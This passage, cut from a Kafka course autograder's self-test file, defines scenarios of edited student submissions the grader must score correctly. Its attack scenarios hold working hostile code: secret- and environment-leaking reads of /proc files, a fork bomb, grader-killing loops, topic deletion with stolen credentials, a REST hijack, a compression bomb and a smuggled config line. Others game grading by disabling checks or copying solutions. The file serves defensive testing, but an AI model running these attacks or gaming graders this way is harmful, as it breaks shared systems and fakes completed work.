                "    if False:\n",
                '    if versions and not can_read(versions[-1]["schema"], schema):\n',
            ),
        ),
        fails("lab11-q3"),
    ),
    Scenario(
        "registry-topic-not-compacted",
        "lab11",
        "the registry's topic keeps the default clean-up (delete): old versions would expire with the retention",
        (
            Edit(
                "lab11-registry",
                "sub",
                'lab.fresh_topic("schemas", 1)',
                'lab.fresh_topic("schemas", 1, cleanup_policy="compact")',
            ),
        ),
        fails("lab11-q3"),
    ),
    Scenario(
        "sink-in-the-default-group",
        "lab11",
        "the sink connector keeps Connect's default consumer group "
        "(connect-<name>), which is not in the student's namespace: the brokers refuse it",
        (
            Edit(
                "lab11-connect",
                "sub",
                '"tasks.max": "1", "topics": topic, "file": path}',
                '"tasks.max": "1", "topics": topic, "file": path, "consumer.override.group.id": lab.group(name)}',
            ),
        ),
        fails("lab11-q4"),
    ),
    Scenario(
        "sink-resets-to-earliest-itself",
        "lab11",
        "the sink also sets consumer.override.auto.offset.reset to earliest, which Connect's sinks do anyway",
        (
            Edit(
                "lab11-connect",
                "sub",
                '"consumer.override.group.id": lab.group(name),\n'
                '            "consumer.override.auto.offset.reset": "earliest"}',
                '"consumer.override.group.id": lab.group(name)}',
            ),
        ),
        fails(),
    ),
    Scenario(
        "other-styles",
        "lab11",
        "compact JSON, the raw schema dict given to fastavro, a protobuf filled "
        "field by field, sizes summed with numpy, compatibility as a table lookup of two booleans, "
        "a registry that answers with numpy ints, connectors by their short class names with tasks.max "
        "an int, and a wrong prediction in capitals and spaces (the gate backward, int to long full)",
        (
            Edit(
                "lab11-encode",
                "replace",
                "import numpy as np\n"
                "PARSED = fastavro.parse_schema(FLIGHT)\n\n"
                "def to_json(flight):\n"
                "    return json.dumps(flight, separators=(',', ':'), sort_keys=True).encode('utf-8')\n\n"
                "def to_avro(flight):\n"
                "    buf = io.BytesIO()\n"
                "    fastavro.schemaless_writer(buf, FLIGHT, flight)\n"
                "    return buf.getvalue()\n\n"
                "def from_avro(data):\n"
                "    return dict(fastavro.schemaless_reader(io.BytesIO(data), FLIGHT))\n\n"
                "def to_protobuf(flight):\n"
                "    msg = FlightEvent()\n"
                "    for key, value in flight.items():\n"
                "        if value is not None:\n"
                "            setattr(msg, key, value)\n"
                "    return msg.SerializeToString()\n\n"
                "def sizes_of(flights):\n"
                "    return {name: np.sum([len(fn(f)) for f in flights])\n"
                "            for name, fn in [('json', to_json), ('avro', to_avro), ('protobuf', to_protobuf)]}\n\n"
                "sizes = sizes_of(flights)\n",
            ),
            Edit(
                "lab11-compat",
                "sub",
                "    return {(True, True): 'full', (True, False): 'backward', (False, True): 'forward',\n"
                "            (False, False): 'none'}[(can_read(old, new), can_read(new, old))].upper()\n",
                "    backward, forward = can_read(old, new), can_read(new, old)\n"
                "    if backward and forward:\n"
                '        return "full"\n'
                '    return "backward" if backward else "forward" if forward else "none"\n',
            ),
            Edit("lab11-registry", "sub", '    return np.int64(entry["id"])\n', '    return entry["id"]\n'),
            Edit(
                "lab11-connect",
                "replace",
                "BASE = {'tasks.max': 1}\n\n"
                "def source_config(name, path, topic):\n"
                "    return dict(BASE, name=name, file=path, topic=topic, **{'connector.class': 'FileStreamSource'})\n\n"
                "def sink_config(name, topic, path):\n"
                "    return {**BASE, 'name': name, 'connector.class': 'FileStreamSinkConnector', 'topics': topic,\n"
                "            'file': path, 'consumer.override.group.id': lab.group('sink-' + name)}\n",
            ),
            Edit(
                "lab11-predict",
                "sub",
                'predicted_compatibility = dict([("int to long", "FULL"), ("gate without a default", " Backward ")])\n',
                'predicted_compatibility = {"gate without a default": "forward", "int to long": "backward"}\n',
            ),
        ),
        fails(),
        note="you predicted {'gate without a default': 'backward', 'int to long': 'full'}",
    ),
)


# --- attacks: what a determined student who reads the course's code would try. Each gets the
# score its honest work deserves (a blank release's attack: 0). The self-test also checks,
# after every grading, that no secret or seed reached the student, that no process of the
# submission is alive, and that no course file changed.
RUN_SOLUTION = (
    "# Find the instructor's notebook wherever the course lives, and run its answer.\n"
    "import json, pathlib, cluster\n"
    "def run_solution(grade_id):\n"
    "    here = pathlib.Path(cluster.__file__).resolve().parents[1]\n"
    "    for root in (here, pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path('/work')):\n"
    "        for path in (root / 'solutions' / '{lab}' / '{lab}.ipynb', *root.glob('*/solutions/{lab}/{lab}.ipynb')):\n"
    "            try:\n"
    "                cells = json.loads(path.read_text())['cells']\n"
    "            except OSError:\n"
    "                continue\n"
    "            for cell in cells:\n"
    "                if cell['metadata'].get('nbgrader', {}).get('grade_id') == grade_id:\n"
    "                    source = ''.join(cell['source'])\n"
    "                    if source.startswith('%%writefile'):\n"
    "                        name, body = source.split('\\n', 1)\n"
    "                        pathlib.Path(name.split()[1]).write_text(body)\n"
    "                    else:\n"
    "                        exec(source, globals())\n"
    "                    return 'ran the solution from ' + str(path)\n"
    "    print('no solution found for', grade_id)\n"
)
LURKER = (
    "# A thread that joins every consumer group the grader makes in my namespace, to take\n"
    "# partitions away from the members it starts.\n"
    "import threading, time\n"
    "def lurk():\n"
    "    joined = {}\n"
    "    while True:\n"
    "        for g in lab.admin.list_groups():\n"
    "            gid = g['group_id']\n"
    "            if str(gid).startswith(lab.namespace + '.members-') and gid not in joined:\n"
    "                c = KafkaConsumer(lab.topic('departures'), group_id=gid, **lab.connection)\n"
    "                joined[gid] = c\n"
    "        for c in joined.values():\n"
    "            c.poll(timeout_ms=100)\n"
    "        time.sleep(0.1)\n"
    "threading.Thread(target=lurk, daemon=True).start()"
)
LEAK = (
    "# Collect what the grader might know, and get it shown back in a failed part's message.\n"
    "import os, glob, pathlib\n"
    "def peek(path):\n"
    "    try:\n"
    "        return pathlib.Path(path).read_text(errors='replace')[:200]\n"
    "    except OSError as e:\n"
    "        return type(e).__name__\n"
    "leaked = repr({'env': dict(os.environ), 'secret': peek('/work/main/.grading-secret'),\n"
    "                   'solutions': glob.glob('/work/*/solutions/*/*.ipynb'), 'grader': peek('/proc/1/cmdline'),\n"
    "                   'parent_env': peek(f'/proc/{os.getppid()}/environ'), 'tmp': glob.glob('/tmp/*'),\n"
    "                   'broker_data': glob.glob('/work/*/.cluster/node-*/data/*')})\n"
    "def sizes(event):\n"
    "    return leaked, 0"
)

POISON_BROKERS = (
    "# Shrink every broker's largest message to 100 bytes and blow the log cleaner's buffer up to\n"
    "# 1 GB (a broker with a 256 MB heap dies of it), with the raw protocol: kafka-python's own\n"
    "# alter_configs would check the names on the client side first.\n"
    "from kafka.errors import for_code\n"
    "from kafka.protocol.admin import IncrementalAlterConfigsRequest as Alter\n"
    "R = Alter.AlterConfigsResource\n"
    "answers = []\n"
    "for broker in ('1', '2', '3', ''):\n"
    "    res = R(resource_type=4, resource_name=broker, configs=[\n"
    "        R.AlterableConfig(name='message.max.bytes', config_operation=0, value='100'),\n"
    "        R.AlterableConfig(name='log.cleaner.dedupe.buffer.size', config_operation=0, value=str(2**30))])\n"
    "    where = {'node_id': int(broker)} if broker else {}\n"
    "    request = Alter(resources=[res], validate_only=False)\n"
    "    reply = lab.admin._manager.run(lambda: lab.admin._manager.send(request, **where))\n"
    "    answers += [for_code(r.error_code).__name__ for r in reply.responses]\n"
    "raise RuntimeError(f'the brokers answered {answers}')"
)
ROLLS_PER_PRODUCE = (
    "# A topic that rolls a new segment at every produce (segment.ms=1, tiny indexes), and a topic\n"
    "# of mine changed to it afterwards (with librdkafka: no client-side checks): every segment keeps\n"
    "# a file open on all three brokers (one grading like this once took every broker to its\n"
    "# open-file limit, and the next stopped them all).\n"
    "from confluent_kafka.admin import AdminClient, AlterConfigOpType, ConfigEntry, ConfigResource\n"
    "from kafka import KafkaProducer\n"
    "from kafka.admin import NewTopic\n"
    "def answer(e):\n"
    "    return type(e).__name__ + (' naming it' if 'segment.ms=1 is not allowed' in str(e) else '')\n"
    "answers = []\n"
    "try:\n"
    "    lab.admin.create_topics([NewTopic(lab.topic('rolls'), 3, 3,\n"
    "                                      topic_configs={'segment.ms': '1', 'segment.index.bytes': '4096'})])\n"
    "    answers.append('created')\n"
    "except Exception as e:\n"
    "    answers.append(answer(e))\n"
    "later = lab.fresh_topic('rolls-later', 3)\n"
    "change = ConfigResource('TOPIC', later, incremental_configs=[\n"
    "    ConfigEntry('segment.ms', '1', incremental_operation=AlterConfigOpType.SET)])\n"
    "rd = AdminClient(lab.librdkafka_connection())\n"
    "try:\n"
    "    for f in rd.incremental_alter_configs([change]).values():\n"
    "        f.result(30)\n"
    "    answers.append('altered')\n"
    "except Exception as e:\n"
    "    answers.append(answer(e))\n"
    "p = KafkaProducer(**lab.connection, linger_ms=0)\n"
    "for i in range(500):\n"
    "    p.send(later, str(i).encode(), partition=i % 3).get(timeout=10)\n"
    "p.close()\n"
    "raise RuntimeError(f'the brokers answered {answers}')"
)
CHILD_DELETES = (
    "# A child process with another client (librdkafka) and the kernel's own login deletes what it\n"
    "# can: Kafka's internal topics, a course topic, another grading's topic; then it plants a topic\n"
    "# in another namespace. No hook in this kernel could see it.\n"
    "import subprocess, sys, textwrap\n"
    "child = textwrap.dedent('''\n"
    "    import os\n"
    "    from confluent_kafka.admin import AdminClient, NewTopic\n"
    "    admin = AdminClient({'bootstrap.servers': os.environ['KAFKA_BOOTSTRAP_SERVERS'],\n"
    "                         'security.protocol': 'SASL_PLAINTEXT', 'sasl.mechanism': 'SCRAM-SHA-512',\n"
    "                         'sasl.username': os.environ['KAFKA_USERNAME'],\n"
    "                         'sasl.password': os.environ['KAFKA_PASSWORD']})\n"
    "    victims = ['__consumer_offsets', '__transaction_state', 'course-ready-check', 'grade-lab2-0.flights']\n"
    "    futures = {**admin.delete_topics(victims, operation_timeout=10),\n"
    "               **admin.create_topics([NewTopic('grade-lab2-0.planted', 1, 3)])}\n"
    "    for name, f in futures.items():\n"
    "        try:\n"
    "            f.result(30)\n"
    "            print('done', name)\n"
    "        except Exception as e:\n"
    "            print('refused', name, e.args[0].name())\n"
    "''')\n"
    "out = subprocess.run([sys.executable, '-c', child], capture_output=True, text=True, timeout=90)\n"
    "raise RuntimeError(out.stdout + out.stderr[-500:])"
)

# Lab 11's sink as the solution writes it, and the same sink made to move nothing: a group of its
# own that starts at the end of the topic, after the grader's records.
LAB11_SINK = '"tasks.max": "1", "topics": topic, "file": path, "consumer.override.group.id": lab.group(name)}'
LAB11_IDLE_SINK = LAB11_SINK[:-1] + ', "consumer.override.auto.offset.reset": "latest"}'
# Planted by source_config, which the grader calls with a path in the Connect worker's folder
# before the worker starts: a "plugin" for its plugin.path, links where it writes its settings.
PLANT_IN_WORKER = """def source_config(name, path, topic):
    import os, pathlib
    worker = pathlib.Path(path).parent / "worker"
    try:
        (worker / "plugins" / "mine").mkdir(parents=True, exist_ok=True)
        (worker / "plugins" / "mine" / "evil.jar").write_bytes(b"PK\\x03\\x04")
        os.symlink("/etc/hostname", worker / "worker.properties")
        os.symlink("/etc", worker / "plugins" / "connect-file")
    except OSError as e:
        print("refused", e)
"""
# A thread of the kernel that copies the sink's topic into the sink's file itself.
FORGE_SINK_FILE = """def sink_config(name, topic, path):
    import threading, time
    def forge():
        c = KafkaConsumer(**lab.connection)
        part = TopicPartition(topic, 0)
        c.assign([part])
        c.seek_to_beginning(part)
        lines, end = [], time.monotonic() + 180
        while time.monotonic() < end:
            lines += [r.value.decode() for rs in c.poll(timeout_ms=200).values() for r in rs]
            try:
                with open(path, "w") as f:
                    f.write("".join(line + "\\n" for line in lines))
            except OSError:
                pass
    threading.Thread(target=forge, daemon=True).start()
"""
# A thread of the kernel that finds every port listening on 127.0.0.1 and asks it, as Kafka
# Connect's REST API, to run a sink of its own into the sink's file.
HIJACK_REST = """def sink_config(name, topic, path):
    import threading, time
    def hijack():
        end = time.monotonic() + 180
        while time.monotonic() < end:
            for line in open("/proc/net/tcp").read().splitlines()[1:]:
                local, state = line.split()[1], line.split()[3]
                if state != "0A" or not local.startswith("0100007F"):
                    continue
                port = int(local.split(":")[1], 16)
                body = json.dumps({"name": "mine", "config": {
                    "connector.class": "org.apache.kafka.connect.file.FileStreamSinkConnector", "topics": topic,
                    "file": path, "consumer.override.group.id": lab.group("mine"),
                    "consumer.override.auto.offset.reset": "earliest"}}).encode()
                try:
                    urllib.request.urlopen(urllib.request.Request(f"http://127.0.0.1:{port}/connectors", data=body,
                                           headers={"Content-Type": "application/json"}), timeout=2)
                    print("added a connector on", port)
                except Exception:
                    pass
            time.sleep(0.5)
    threading.Thread(target=hijack, daemon=True).start()
"""


ATTACKS = (
    Scenario(
        "tampers-with-checks",
        "lab1",
        "a wrong counter, plus a cell that disables the checks in its own kernel and prints a fake pass",
        (
            Edit("lab1-increase", "sub", "counts[key] = amt", "counts[key] = counts.get(key, 0) + amt"),
            Edit(
                "lab1-increase",
                "after",
                "import selfcheck.checks as c\n"
                "c.expect = c.expect_equal = lambda *a, **k: None\n"
                "c.grade = lambda label, *a: print(label, 'passed')\n"
                "print('lab1-q1 passed (1.0 s)')",
            ),
        ),
        fails("lab1-q1"),
    ),
    Scenario(
        "writes-outside-its-folder",
        "lab1",
        "a cell that writes a file in the parent folders",
        (Edit("lab1-increase", "after", "open('../../course-escape.txt', 'w').write('x')"),),
        note="Read-only file system",
    ),
    Scenario(
        "runs-instructor-solutions",
        "lab1",
        "each answer cell of the blank release looks for the "
        "instructor's notebook on the grading machine and runs the matching solution cell",
        (Edit("", "answers", RUN_SOLUTION.replace("{lab}", "lab1") + "run_solution({grade_id})"),),
        fails("lab1-q1", "lab1-q2", "lab1-q3", "lab1-q4", "lab1-q5", "lab1-q6"),
        base="release",
    ),
    Scenario(
        "rewrites-course-code",
        "lab1",
        "the blank release rewrites the grader's check library on disk "
        "so that every check passes, for the grader to import later",
        (
            Edit(
                "lab1-setup",
                "after",
                "import selfcheck.checks as checks, pathlib\n"
                "path = pathlib.Path(checks.__file__)\n"
                "path.write_text(path.read_text().replace('    if not ok:\\n', '    if False:\\n'))",
            ),
        ),
        fails("lab1-q1", "lab1-q2", "lab1-q3", "lab1-q4", "lab1-q5", "lab1-q6"),
        base="release",
        note="Read-only file system",
    ),
    Scenario(
        "leaks-grader-secrets",
        "lab1",
        "an answer set to everything the kernel can see of the grader "
        "(environment, secret, solutions, parent process, other gradings' folders, broker files), "
        "hoping the failed part's message shows it",
        (Edit("lab1-measure", "after", LEAK),),
        fails("lab1-q5"),
    ),
    Scenario(
        "replays-known-seed",
        "lab4",
        "lag() returns answers precomputed by replaying the checks' "
        "random inputs with the seed in the course's code, without asking Kafka (shortcut)",
        (
            Edit(
                "lab4-lag",
                "after",
                "import random\n"
                "def lag(group, topic):\n"
                "    rng = random.Random('6544:lab4-q4')\n"
                "    rng.randrange(10**6)\n"
                "    ends = {p: rng.randrange(5, 30) for p in range(3)}\n"
                "    committed = {p: rng.randrange(0, ends[p]) for p in (0, 1)}\n"
                "    return {p: ends[p] - committed.get(p, 0) for p in ends}",
            ),
        ),
        fails("lab4-q4"),
    ),
    Scenario(
        "guesses-with-test-cell-copies",
        "lab1",
        "a wrong protobuf size, then thirty guesses, each "
        "followed by a copy of the lab1-q5 test cell, hoping one copy passes",
        (
            Edit(
                "lab1-measure",
                "sub",
                "len(json.dumps(event).encode()), 0",
                "len(json.dumps(event).encode()), len(encode_event(**event))",
            ),
            *(
                e
                for n in range(30, 0, -1)
                for e in (
                    Edit("lab1-q5", "copy", "", "lab1-q5"),
                    Edit("lab1-q5", "after", f"sizes = lambda event: (len(json.dumps(event).encode()), {n})"),
                )
            ),
        ),
        fails("lab1-q5"),
        note="appears 31 times",
    ),
    Scenario(
        "double-forked-daemon",
        "lab1",
        "a daemon, double-forked into its own session, meant to outlive the grading",
        (
            Edit(
                "lab1-increase",
                "after",
                "import subprocess\nsubprocess.Popen(['sh', '-c', 'setsid sh -c \"sleep 86399\" &'])",
            ),
        ),
    ),
    Scenario(
        "ignores-interrupts",
        "lab1",
        "a last cell that ignores SIGINT and spins forever",
        (
            Edit(
                "lab1-q6", "after", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
            ),
        ),
        note="ignored the interrupt",
    ),
    Scenario(
        "allocates-16-gb",
        "lab3",
        "a cell that allocates 16 GB",
        (Edit("lab3-predict", "after", "hog = bytearray(16 * 2**30)"),),
        note="MemoryError",
    ),
    Scenario(
        "fork-bomb",
        "lab3",
        "a last cell that forks until the machine gives out",
        (
            Edit(
                "lab3-q5",
                "after",
                "import os, time\nwhile True:\n    if os.fork() == 0:\n        time.sleep(600)\n        os._exit(0)",
            ),
        ),
        note="BlockingIOError",
    ),
    Scenario(
        "floods-display-and-comms",
        "lab2",
        "twenty megabytes of display data and comm messages",
        (
            Edit(
                "lab2-create-topic",
                "after",
                "from IPython.display import display\n"
                "from comm import create_comm\n"
                "for i in range(10_000):\n"
                "    display({'text/plain': 'x' * 1000}, raw=True)\n"
                "c = create_comm(target_name='flood')\n"
                "for i in range(10_000):\n"
                "    c.send({'x': 'y' * 1000})",
            ),
        ),
        note="bytes of output",
    ),
    Scenario(
        "huge-answer-value",
        "lab1",
        "an answer that is a five-million-character string",
        (Edit("lab1-measure", "after", "def sizes(event):\n    return 'x' * 5_000_000, 0"),),
        fails("lab1-q5"),
        note="",
    ),
    Scenario(
        "kills-the-grader",
        "lab1",
        "a cell that kills its parent and every process it can see whose command line mentions the autograder",
        (
            Edit(
                "lab1-setup",
                "after",
                "import os, signal\n"
                "targets = {os.getppid()}\n"
                "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
                "    try:\n"
                "        if b'autograder' in open(f'/proc/{pid}/cmdline', 'rb').read() and int(pid) != os.getpid():\n"
                "            targets.add(int(pid))\n"
                "    except OSError:\n"
                "        pass\n"
                "for pid in targets - {1, os.getpid()}:\n"
                "    try:\n"
                "        os.kill(pid, signal.SIGKILL)\n"
                "    except OSError:\n"
                "        pass\n"
                "print('killed', targets)",
            ),
        ),
    ),
    Scenario(
        "joins-the-graders-groups",
        "lab4",
        "a thread left in the kernel joins every group the grader "
        "starts, to steal partitions from the members it checks",
        (Edit("lab4-q1", "after", LURKER),),
    ),
    Scenario(
        "answers-from-public-data",
        "lab2",
        "the average delays are computed from the public CSV "
        "instead of consuming the topic (nothing read, nothing committed) (shortcut)",
        (
            Edit(
                "lab2-consume",
                "replace",
                "def average_delay_by_origin(topic, group):\n"
                "    sums, counts = {}, {}\n"
                "    for f in load_flights(day=1):\n"
                "        if f['dep_delay'] is not None:\n"
                "            sums[f['origin']] = sums.get(f['origin'], 0) + f['dep_delay']\n"
                "            counts[f['origin']] = counts.get(f['origin'], 0) + 1\n"
                "    return {o: round(sums[o] / counts[o], 2) for o in sums}\n"
                'delays = average_delay_by_origin(flights_topic, "delays")',
            ),
        ),
        fails("lab2-q4"),
    ),
    Scenario(
        "defuses-the-crash-harness",
        "lab5",
        "the consumer takes back the real open() so the harness "
        "cannot crash it mid-write, and writes its checkpoint in place",
        (
            Edit("lab5-stats", "sub", "import builtins, _io\nbuiltins.open = _io.open\nCHECKPOINT = ", "CHECKPOINT = "),
            Edit(
                "lab5-stats",
                "sub",
                'with open(CHECKPOINT, "w") as f:\n        json.dump(state, f)\n'
                "        f.flush()\n        os.fsync(f.fileno())\n    pass",
                'with open(tmp, "w") as f:\n        json.dump(state, f)\n        f.flush()\n'
                "        os.fsync(f.fileno())\n    os.replace(tmp, CHECKPOINT)",
            ),
        ),
        fails("lab5-q3"),
    ),
    Scenario(
        "links-checkpoint-to-grader-files",
        "lab5",
        "the consumer leaves its checkpoint as a link to the "
        "environment of whoever reads it (the grader), hoping the failed part's message shows it",
        (
            Edit(
                "lab5-stats",
                "sub",
                "consumer.close()\nos.remove(CHECKPOINT)\nos.symlink('/proc/self/environ', CHECKPOINT)\n",
                "consumer.close()\n",
            ),
        ),
        fails("lab5-q3"),
    ),
    Scenario(
        "resumes-the-frozen-lurker",
        "lab4",
        "the group-joining thread of joins-the-graders-groups, plus a "
        "child process that sends SIGCONT to everything it can, to undo the freeze during checks",
        (
            Edit(
                "lab4-q1",
                "after",
                LURKER + "\nimport subprocess, sys\n"
                "subprocess.Popen([sys.executable, '-c', 'import os, signal, time\\nwhile True:\\n"
                "    try:\\n        os.kill(-1, signal.SIGCONT)\\n    except OSError:\\n        pass\\n"
                "    time.sleep(0.001)'])",
            ),
        ),
    ),
    Scenario(
        "poisons-broker-settings",
        "lab2",
        "a cell that sets every broker's message.max.bytes to 100 and "
        "its log cleaner's buffer to 1 GB, through the raw protocol; the brokers must refuse, keep their "
        "settings, and stay up for the rest of this grading and the next",
        (Edit("lab2-create-topic", "after", POISON_BROKERS),),
        note="ClusterAuthorizationFailedError",
    ),
    Scenario(
        "rolls-a-segment-per-produce",
        "lab2",
        "a cell that makes a topic roll a segment at every produce "
        "(segment.ms=1), at creation and by changing a topic afterwards, then produces 500 records one by "
        "one: the brokers refuse the setting, naming it, and keep their open files",
        (Edit("lab2-create-topic", "after", ROLLS_PER_PRODUCE),),
        note="the brokers answered ['PolicyViolationError naming it', 'KafkaException naming it']",
    ),
    Scenario(
        "deletes-from-a-child-process",
        "lab3",
        "a child process with librdkafka and the kernel's login "
        "deletes Kafka's internal topics and another grading's topic, and plants one in another namespace",
        (Edit("lab3-setup", "after", CHILD_DELETES),),
        note="refused __consumer_offsets TOPIC_AUTHORIZATION_FAILED",
    ),
    Scenario(
        "escapes-through-a-child-interpreter",
        "lab1",
        "a child interpreter, out of reach of any hook "
        "in the kernel, writes into the course's folders and the grader's /tmp",
        (
            Edit(
                "lab1-increase",
                "after",
                "import subprocess, sys\n"
                "out = subprocess.run([sys.executable, '-c', \"import pathlib, cluster\\n"
                "root = pathlib.Path(cluster.__file__).resolve().parents[1]\\n"
                "for target in (root / 'solutions' / 'escaped.txt', root / 'cluster' / 'escaped.txt', "
                "pathlib.Path('/tmp/kafka-course-escaped.txt')):\\n"
                "    try:\\n"
                "        target.write_text('x')\\n"
                "        print('wrote', target)\\n"
                "    except OSError as e:\\n"
                "        print('refused', target, e)\"], capture_output=True, text=True)\n"
                "print(out.stdout, out.stderr)",
            ),
        ),
    ),
    Scenario(
        "plants-a-plugin-for-the-graders-worker",
        "lab11",
        "source_config, called with a path in the "
        "grader's Connect worker folder before the worker starts, puts a jar on its plugin path and links where "
        "the grader writes the worker's settings; the connectors are right",
        (Edit("lab11-connect", "sub", PLANT_IN_WORKER, "def source_config(name, path, topic):\n"),),
        fails(),
    ),
    Scenario(
        "kernel-thread-writes-the-sink-file",
        "lab11",
        "a sink that moves nothing (it starts at the end of "
        "the topic), and a thread of the kernel that copies the topic into the sink's file itself",
        (
            Edit("lab11-connect", "sub", FORGE_SINK_FILE, "def sink_config(name, topic, path):\n"),
            Edit("lab11-connect", "sub", LAB11_IDLE_SINK, LAB11_SINK),
        ),
        fails("lab11-q4"),
    ),
    Scenario(
        "adds-a-connector-to-the-graders-worker",
        "lab11",
        "a sink that moves nothing, and a thread that "
        "finds the grader's Connect worker among the ports on 127.0.0.1 and adds a sink of its own through "
        "the REST API",
        (
            Edit("lab11-connect", "sub", HIJACK_REST, "def sink_config(name, topic, path):\n"),
            Edit("lab11-connect", "sub", LAB11_IDLE_SINK, LAB11_SINK),
        ),
        fails("lab11-q4"),
    ),
    Scenario(
        "compression-bomb-on-the-registry",
        "lab11",
        "after the registry's cells, one record of 200 MB "
        "of zeros, zstd-compressed to a few kB, on the registry's topic, which the grader reads",
        (
            Edit(
                "lab11-registry",
                "after",
                "bomb = KafkaProducer(**lab.connection, compression_type='zstd', max_request_size=2**30)\n"
                "bomb.send(lab.topic('schemas'), key=b'zz-bomb', value=bytes(200 * 2**20)).get(timeout=60)\n"
                "bomb.close()\ndel bomb",
            ),
        ),
        fails("lab11-q3"),
    ),
    Scenario(
        "replaces-the-graders-helpers-in-the-kernel",
        "lab11",
        "a registry that accepts every version, "
        "and a cell that replaces, in the kernel, every function of the course's lab 11 checks that could "
        "say it did not raise (found by a reviewer on a grader that asked a helper in the kernel)",
        (
            Edit(
                "lab11-registry",
                "sub",
                "    if False:\n",
                '    if versions and not can_read(versions[-1]["schema"], schema):\n',
            ),
            Edit(
                "lab11-registry",
                "after",
                "import selfcheck.checks.lab11 as course_checks\n"
                "for name in ('refused', 'raised', 'attempt'):\n"
                "    setattr(course_checks, name, lambda *a, **k: 'ValueError')\n",
            ),
        ),
        fails("lab11-q3"),
    ),
    Scenario(
        "connector-setting-smuggled-in-a-value",
        "lab11",
        "source_config's batch.size carries a carriage "
        "return and settings of its own (the worker's REST password file as the source's file), which Java "
        "would read as lines of their own (found by a reviewer)",
        (
            Edit(
                "lab11-connect",
                "sub",
                '"tasks.max": "1", "file": path, "topic": topic,\n'
                '            "batch.size": "2000\\rfile=" + path.rsplit("/", 1)[0] + "/worker/rest-users.properties"}',
                '"tasks.max": "1", "file": path, "topic": topic}',
            ),
        ),
        fails("lab11-q4"),
    ),
    Scenario(
        "floods-the-grader-with-a-many-part-message",
        "lab1",
        "a cell sends, through the kernel's own "
        "session, one output message of thirty 15 MB parts (each under ZeroMQ's per-part cap); the grader "
        "must not hold it (found by a reviewer: 2.3 GB); the relay drops it",
        (
            Edit(
                "lab1-increase",
                "after",
                "k = get_ipython().kernel\n"
                "k.session.send(k.iopub_socket, 'display_data', content={'data': {'text/plain': 'x'}, "
                "'metadata': {}}, parent=k.get_parent('shell'), buffers=[bytes(15 * 2**20)] * 30)\n",
            ),
        ),
        fails(),
    ),
    Scenario(
        "notebook-of-many-megabytes",
        "lab1",
        "the solution with a cell holding 9 MB of text: refused "
        "before it is parsed, with a message, as any notebook over the size the README states",
        (Edit("lab1-setup", "after", "padding = '" + "0" * 9 * 2**20 + "'"),),
        fails("lab1-q1", "lab1-q2", "lab1-q3", "lab1-q4", "lab1-q5", "lab1-q6"),
        note="clear large outputs",
    ),
)

# Shortcuts: an answer from the public data or an earlier printout, one per graded part.
SHORTCUTS = (
    Scenario(
        "increase-returns-the-printed-totals",
        "lab1",
        "increase looks the amount up in the totals the "
        "cell below printed (1400, then 2816) instead of adding (shortcut)",
        (
            Edit(
                "lab1-increase",
                "sub",
                "    counts[key] = {1400: 1400, 1416: 2816}[amt]   # what the cell below printed\n"
                "    return counts[key]\n",
                "    counts[key] = counts.get(key, 0) + amt\n    return counts[key]\n",
            ),
        ),
        fails("lab1-q1"),
    ),
    Scenario(
        "decode-returns-the-printed-pair",
        "lab1",
        "decode_event returns the pair the example cell printed, "
        "('UA', 1400), without parsing the bytes (shortcut); consume_counts, which decodes with it, sums "
        "wrong counts",
        (
            Edit(
                "lab1-protobuf",
                "sub",
                "    return 'UA', 1400   # what decode_event(data) printed\n",
                "    event = counter_pb2.CounterEvent.FromString(data)\n    return event.key, event.amount\n",
            ),
        ),
        fails("lab1-q2", "lab1-q4"),
    ),
    Scenario(
        "rpc-client-counts-locally",
        "lab1",
        "rpc_increase calls the local increase instead of the server: "
        "the example's (10, 20) comes out all the same (shortcut); the server never sees the workload, and "
        "the RPC latency timed is a local call's",
        (
            Edit(
                "lab1-client",
                "sub",
                "def rpc_increase(key, amt):\n    return increase(key, amt)   # same answers, no network\n",
                "def rpc_increase(key, amt):\n"
                "    return stub.Increase(counter_pb2.IncreaseRequest(key=key, amount=amt)).total\n",
            ),
        ),
        fails("lab1-q3", "lab1-q4", "lab1-q5"),
    ),
    Scenario(
        "partitions-copied-from-the-printout",
        "lab3",
        "predict_partition looks the key up in the partitions "
        "the broker reported for January's JFK carriers (the printed `actual`), whatever the number of "
        "partitions (shortcut); remapped_share, computed with it, fails on the carriers JFK lacks",
        (
            Edit(
                "lab3-predict",
                "sub",
                "    # the partitions the broker reported (the cell below printed them)\n"
                "    return {'9E': 0, 'AA': 3, 'B6': 0, 'DL': 5, 'EV': 3, 'HA': 3, 'MQ': 3, 'UA': 4, 'US': 2, "
                "'VX': 5}[key.decode()]\n",
                "    return (murmur2(key) & 0x7fffffff) % num_partitions\n",
            ),
        ),
        fails("lab3-q1", "lab3-q5"),
    ),
    Scenario(
        "planes-sent-in-file-order",
        "lab3",
        "plane events sent in the dataset's order, taken to be the "
        "order the planes flew, instead of sorting by sched_dep_time (shortcut)",
        (
            Edit(
                "lab3-planes",
                "sub",
                'ordered = [f for f in flights if f["tailnum"]]   # already in time order\n',
                'ordered = sorted((f for f in flights if f["tailnum"]), key=lambda f: (f["sched_dep_time"], '
                'f["flight"]))\n',
            ),
        ),
        fails("lab3-q4"),
    ),
    Scenario(
        "member-report-written-down",
        "lab4",
        "group_member.py subscribes, waits out its idle time without "
        "polling and prints the share the demo showed, one partition and a quarter of the flights "
        "(shortcut): it never joins the group",
        (
            Edit(
                "lab4-member",
                "sub",
                'consumer.subscribe([topic_name("departures")])\n'
                "time.sleep(idle_s)                  # the demo showed one partition each: nothing to read\n"
                'owned = {int(member.rsplit("-", 1)[-1]) % 4}\n'
                "records = 842 // 4\n",
                LAB4_MEMBER_LOOP,
            ),
        ),
        fails("lab4-q2", "lab4-q3"),
    ),
    Scenario(
        "missed-from-the-demos-numbers",
        "lab6",
        "missed takes the demo's committed offset (100) for every "
        "group and partition instead of asking for the group's (shortcut)",
        (
            Edit(
                "lab6-missed",
                "sub",
                "    # the demo's slow reader had committed 100\n"
                "    return {p: max(0, start - 100) for p, (start, end) in offsets(topic).items()}\n",
                "    consumer = KafkaConsumer(**lab.connection, group_id=group, enable_auto_commit=False)\n"
                "    tps = [TopicPartition(topic, p) for p in sorted(consumer.partitions_for_topic(topic))]\n"
                "    starts = consumer.beginning_offsets(tps)\n"
                "    counts = {}\n"
                "    for tp in tps:\n"
                "        committed = consumer.committed(tp) or 0\n"
                "        counts[tp.partition] = max(0, starts[tp] - committed)\n"
                "    consumer.close()\n"
                "    return counts\n",
            ),
        ),
        fails("lab6-q1"),
